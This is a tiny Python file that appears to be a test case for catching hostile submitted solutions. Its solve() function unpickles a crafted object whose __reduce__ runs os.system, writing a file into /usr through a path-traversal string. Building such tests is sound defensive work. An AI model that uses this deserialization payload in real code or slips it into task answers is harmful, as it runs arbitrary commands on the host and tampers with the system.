# unpickles a shell
# tests: call
# outcome: wrong
import pickle, os
class Bomb:
    def __reduce__(self):
        return os.system, ("echo x > /tmp/../usr/pickled",)
def solve(a, b):
    pickle.loads(pickle.dumps(Bomb()))
    return None
